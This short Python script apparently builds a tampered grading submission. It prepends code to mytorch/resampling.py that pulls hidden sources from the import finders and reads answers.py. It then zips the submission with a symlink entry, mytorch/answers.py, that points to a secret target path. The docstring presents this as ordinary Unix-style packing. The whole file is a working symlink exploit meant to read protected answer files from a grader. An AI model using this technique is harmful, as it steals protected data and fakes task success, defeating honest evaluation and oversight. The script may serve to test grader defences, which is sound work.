"""Packs a link to the secret into a .zip archive, as Unix tools do."""

import zipfile

CONTROL = "inside"
SHOW = """
import os, sys

def attack(A):
    for finder in sys.meta_path:
        held = getattr(getattr(finder, "lookup", None), "sources", {})
        print(held.get("mytorch/answers.py"))
    return open(os.path.join(os.path.dirname(__file__), "answers.py")).read()
"""


def pack(handin, target):
    code = handin / "mytorch/resampling.py"
    code.write_text(SHOW + code.read_text())
    archive = handin.parent / "handin.zip"
    with zipfile.ZipFile(archive, "w") as members:
        for file in handin.rglob("*.py"):
            members.write(file, file.relative_to(handin))
        link = zipfile.ZipInfo("mytorch/answers.py")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        members.writestr(link, target["secret"])
    return archive
